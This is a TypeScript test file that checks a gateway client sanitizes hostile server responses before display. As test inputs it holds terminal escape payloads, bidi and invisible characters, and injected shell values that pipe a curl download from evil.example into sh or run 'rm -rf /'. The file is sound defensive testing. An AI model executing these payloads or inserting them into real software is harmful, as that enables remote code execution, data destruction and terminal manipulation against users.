import {test, afterEach} from 'node:test';
import assert from 'node:assert/strict';
import {startTestGateway, type TestGateway, type TestGatewayOptions} from '../source/net/test-gateway/server.js';
import {GatewayClient, ConnectFailure} from '../source/net/gateway-client.js';
import {createIdentity} from '../source/net/device-identity.js';
import {Fleet} from '../source/net/fleet.js';
import {Dispatcher} from '../source/net/dispatcher.js';
import {memoryCredentials} from '../source/net/credentials.js';
import {RESULTS, DevicePairListShape, isRequestId, isAgentId, type GatewayEvent} from '../source/net/frames.js';
import {isClean} from '../source/core/sanitize.js';
import {nextStep, INVALID_REQUEST_ID} from '../source/core/node-state.js';
import {approveCommand} from '../source/core/clipboard.js';
import {Registry} from '../source/store/registry.js';
import {runCli} from './helpers/cli.js';
import {tempDir} from './helpers/store.js';
import {waitFor} from './helpers/wait.js';

const open: {stop(): unknown}[] = [];
afterEach(async () => {
	for (const o of open.splice(0).reverse()) await o.stop();
});

// Everything a hostile gateway puts in a string: clipboard write (OSC 52), a planted link (OSC 8),
// 8-bit C1 CSI/OSC, bidi overrides and isolates, invisible formatting, lone surrogates, bell, backspace.
const OSC52 = '\u001b]52;c;ZXZpbA==\u0007';
const OSC8 = '\u001b]8;;https://evil.example/x\u001b\\click\u001b]8;;\u001b\\';
const C1 = '\u009b2J\u009d0;title\u009c\u0085';
const BIDI = '\u202eevil\u2066x\u2069\u200f';
const INVIS = '\u200b\u2060\ufeff\u00ad';
const LONE = 'a\ud800b\udc00c';
const H = `h${OSC52}${OSC8}${C1}${BIDI}${INVIS}${LONE}\u0007\u0008\r`;
const BIG = 'y'.repeat(1_100_000) + OSC52;

/** Walk every value reachable from `v`: each string clean and capped, each number a finite number. */
function assertClean(v: unknown, where: string, seen = new Set<unknown>()): number {
	if (typeof v === 'string') {
		assert.ok(isClean(v), `${where}: unclean ${JSON.stringify(v.slice(0, 120))}`);
		assert.ok(v.length <= 1_000_000, `${where}: ${v.length} chars`);
		return 1;
	}
	if (typeof v === 'number') {
		assert.ok(Number.isFinite(v), `${where}: ${v}`);
		return 1;
	}
	if (!v || typeof v !== 'object' || seen.has(v)) return 0;
	seen.add(v);
	let n = 0;
	const entries = v instanceof Map ? [...v.entries()] : Object.entries(v);
	for (const [k, x] of entries) n += assertClean(x, `${where}.${String(k)}`, seen);
	return n;
}

/** One hostile answer per method the console calls: hostile strings in every field, wrong types in the rest. */
const hostileResults: Record<keyof typeof RESULTS | 'device.pair.list' | 'sessions.list', () => unknown> = {
	'system.info': () => ({hostname: H, machineName: BIG, platform: H, arch: 7, osLabel: H, cpuCount: H, loadAverage: [H, 1], memoryTotalBytes: H, memoryFreeBytes: {}, uptimeMs: H, nodeVersion: H, lanAddress: H, eventLoop: {degraded: H}}),
	health: () => ({ok: H, defaultAgentId: H, agents: H, sessions: {count: OSC52}}),
	'agents.list': () => ({defaultId: H, agents: [{id: H, name: H}, {id: 'main', name: H}, 'x', null]}),
	'device.pair.list': () => ({paired: H, pending: [{requestId: '5e1f; curl -s https://evil.example/x | sh #', remoteIp: H}, H]}),
	'sessions.list': () => ({sessions: [{activeRunIds: [H, 5, null, BIG]}, H]}),
	agent: () => ({status: H, runId: H, sessionKey: H, summary: H, stopReason: H, result: {payloads: [{text: H}, {text: BIG}, {text: 5}]}}),
	'agent.wait': () => ({status: H, error: H, stopReason: H, terminalReply: {text: BIG}}),
	'chat.abort': () => ({ok: H, aborted: H}),
	'sessions.abort': () => ({aborted: H}),
	'config.get': () => ({path: H, exists: H, raw: `{gateway: {bind: "${H}"}}`, hash: H}),
	'config.patch': () => ({changedPaths: [H]}),
	'device.pair.approve': () => ({requestId: H}),
};

const hostileHello = (h: Record<string, unknown>) => ({
	...h,
	server: {version: H, connId: H}, // (hello-ok comes before auth: a frame over 64 KiB there is dropped)
	snapshot: {uptimeMs: H, sessionDefaults: {defaultAgentId: H, mainSessionKey: H}},
	auth: {...(h.auth as object), role: H, scopes: [...((h.auth as {scopes: string[]}).scopes ?? []), H, 5]},
	policy: {maxPayload: H, tickIntervalMs: 'x'},
	features: {methods: [H], events: [H]},
});

const hostileEvents = (runId: string): {event: string; payload: unknown}[] => [
	{event: 'agent', payload: {runId, seq: 1, stream: 'lifecycle', sessionKey: H, agentId: H, data: {phase: H}}},
	{event: 'agent', payload: {runId, seq: 2, stream: 'assistant', data: {itemId: H, text: H, delta: H, replace: H}}},
	{event: 'agent', payload: {runId, seq: 3, stream: 'assistant', data: {itemId: 'b', text: BIG}}},
	{event: 'agent', payload: {runId, seq: 4, stream: 'tool', data: {phase: 'start', name: H, toolCallId: H, args: {cmd: H}, isError: H}}},
	{event: 'agent', payload: {runId, seq: 5, stream: 'lifecycle', data: {phase: 'error', error: {nested: H}, stopReason: H}}},
	{event: 'agent', payload: {runId: H, seq: 6, stream: H, sessionKey: H, data: {phase: 'start'}}},
	{event: 'agent', payload: {runId, seq: H, stream: 'assistant', data: {text: H}}},
	{event: 'agent', payload: H},
	{event: H, payload: {x: H}},
	{event: 'shutdown', payload: {reason: H, restartExpectedMs: H}},
];

function hostileGateway(extra: TestGatewayOptions = {}): Promise<TestGateway> {
	const methods = Object.fromEntries(Object.entries(hostileResults).filter(([m]) => m !== 'agent'));
	return startTestGateway({hello: hostileHello, methods, accepted: p => ({...p, sessionKey: H, runId: H}), deltaDelayMs: 5, ...extra}).then(g => (open.push(g), g));
}

test('boundary: every method result and event the console uses, hostile in every field, arrives typed and clean', async () => {
	const gw = await hostileGateway();
	const c = new GatewayClient({url: gw.url, token: 'test-token', identity: createIdentity(), version: 'test'});
	const hello = await c.connect();
	open.push({stop: () => c.close()});
	assertClean(hello, 'hello-ok');
	assert.equal(hello.snapshot.sessionDefaults?.defaultAgentId, undefined, 'an agent id that is not an id is dropped');
	assert.equal(hello.policy.tickIntervalMs, 30_000, 'a tick interval that is not a number falls back');
	const events: GatewayEvent[] = [];
	c.on('event', e => events.push(e));
	for (const method of Object.keys(RESULTS) as (keyof typeof RESULTS)[]) {
		const r = await c.request(method, {message: 'x', idempotencyKey: 'k1'}, {expectFinal: method === 'agent', onAccepted: p => assertClean(p, 'agent accepted')}).catch((e: Error) => e);
		assertClean(r, method);
	}
	const health = await c.request('health', {});
	assert.equal(health.sessions, undefined, 'health.sessions.count that is not a number is not a number past net/');
	assert.equal(health.defaultAgentId, undefined);
	const agents = await c.request('agents.list', {});
	assert.deepEqual(agents.agents.map(a => a.id), ['main'], 'agents whose id is not an agent id are left out');
	const pairs = DevicePairListShape.parse(await c.request('device.pair.list', {}));
	assert.equal(pairs.pending[0]?.requestId, undefined, 'a request id that is not an id is dropped');
	for (const e of hostileEvents('run-1')) gw.broadcast(e.event, e.payload);
	await waitFor(() => events.some(e => e.event === 'shutdown'), {what: 'the hostile events'});
	assert.ok(c.malformed >= 2, `malformed agent payloads (no seq, not an object) are dropped (${c.malformed})`);
	assert.ok(events.filter(e => e.event === 'agent').length >= 5);
	for (const e of events) assertClean(e, `event ${e.event}`);
	// errors: code, message and details cleaned; a request id that is not one never reaches a command
	gw.opts.methods = {health: () => Promise.reject({code: H, message: H, details: {code: H, requestId: H}})};
	const err = await c.request('health', {}).catch((e: Error) => e);
	assertClean({message: (err as Error).message, error: (err as {error?: unknown}).error}, 'error');
});

test('boundary: the known holes — accepted sessionKey, sessionDefaults, health count, pairing request id — are closed end to end', async () => {
	const gw = await hostileGateway();
	const fleet = new Fleet(memoryCredentials(), {version: 'test', pollMs: 200, probeTimeoutMs: 1000, backoff: {baseMs: 50, maxMs: 200}});
	open.push(fleet);
	fleet.sync([{name: 'n0', host: '127.0.0.1', port: gw.port, token: 'test-token'}]);
	const d = new Dispatcher(fleet, () => [{name: 'n0', tags: []}]);
	await waitFor(() => fleet.statuses().n0?.system, {what: 'online'});
	// session main: the hostile hello's mainSessionKey would be used
	const r = await d.dispatch({message: 'hello', target: {kind: 'node', name: 'n0'}, session: 'main'});
	assert.ok(r.ok);
	const id = r.ids[0]!;
	await waitFor(() => d.state.tasks.get(id)?.state === 'done' || d.state.tasks.get(id)?.state === 'failed', {what: 'the run to end', timeoutMs: 10_000});
	for (const e of hostileEvents(id)) gw.broadcast(e.event, e.payload);
	await waitFor(() => fleet.statuses().n0?.state === 'connecting' || fleet.statuses().n0?.detail === 'gateway is restarting', {what: 'the shutdown event'}).catch(() => undefined);
	const detail = await fleet.detail('n0');
	const n = assertClean({statuses: fleet.statuses(), detail, tasks: d.state.tasks, log: [...d.state.log.reverse()]}, 'past net/');
	assert.ok(n > 20, `walked ${n} values`);
	assert.equal(detail.health?.sessions, undefined);
	const t = d.state.tasks.get(id)!;
	assert.ok(t.sessionKey && isClean(t.sessionKey) && t.sessionKey.startsWith('h'), t.sessionKey);
	assert.ok(!gw.received.some(x => x.method === 'agent' && JSON.stringify(x.params).includes('\u001b')), 'nothing hostile is sent back');
});

test('boundary: a pairing request id that is not an id is never shown as a command', async () => {
	const gw = await startTestGateway({requirePairing: true});
	open.push(gw);
	const evil = '5e1f; curl -s https://evil.example/x | sh #';
	const orig = [...gw.st.pending.values()];
	assert.equal(orig.length, 0);
	// rewrite the id the gateway reports in the NOT_PAIRED error
	const realSet = gw.st.pending.set.bind(gw.st.pending);
	gw.st.pending.set = (k, v) => {
		v.requestId = evil;
		return realSet(k, v);
	};
	const c = new GatewayClient({url: gw.url, token: 'test-token', identity: createIdentity(), version: 'test'});
	const e = await c.connect().catch((x: unknown) => x);
	assert.ok(e instanceof ConnectFailure && e.failure.kind === 'rejected');
	const f = (e as ConnectFailure).failure as {requestId?: string};
	assert.equal(f.requestId, INVALID_REQUEST_ID);
	const step = nextStep({state: 'pairing-required', requestId: f.requestId}, {name: 'n0', host: '127.0.0.1', port: gw.port, tags: []} as never);
	assert.ok(!step.includes('curl') && !step.includes('approve (invalid') && step.includes(INVALID_REQUEST_ID), step);
	assert.equal(approveCommand({state: 'pairing-required', requestId: f.requestId}), undefined, 'nothing to copy');
	assert.ok(isRequestId('5e1f0c2a-6f7b-4c1e-9d2a-0b1c2d3e4f50') && !isRequestId(evil) && !isRequestId('a b'));
	assert.ok(isAgentId('main') && isAgentId('coder_2') && !isAgentId('main; rm -rf /') && !isAgentId(''));
});

test('boundary: dispatch --json and tasks written by the console get clean values only', async () => {
	const gw = await hostileGateway();
	const dir = tempDir();
	new Registry(dir).add({name: 'n0', host: '127.0.0.1', port: gw.port, token: 'test-token', tags: []});
	const r = await runCli(['dispatch', '--json', '--node', 'n0', '--session', 'main', 'hello'], {env: {MGW_TUI_HOME: dir}});
	const lines = r.stdout.trim().split('\n');
	assert.ok(lines.length >= 2, r.stdout + r.stderr);
	assert.ok(isClean(r.stdout.replace(/\n/g, '')) && isClean(r.stderr.replace(/\n/g, '')));
	for (const l of lines) assertClean(JSON.parse(l), 'ndjson');
	const accepted = JSON.parse(lines[0]!);
	assert.equal(accepted.event, 'accepted');
	assert.ok(!/[\u001b\u0080-\u009f\u202a-\u202e]/.test(r.stdout), 'no escape byte in the NDJSON text either (JSON escapes are decoded by readers)');
});
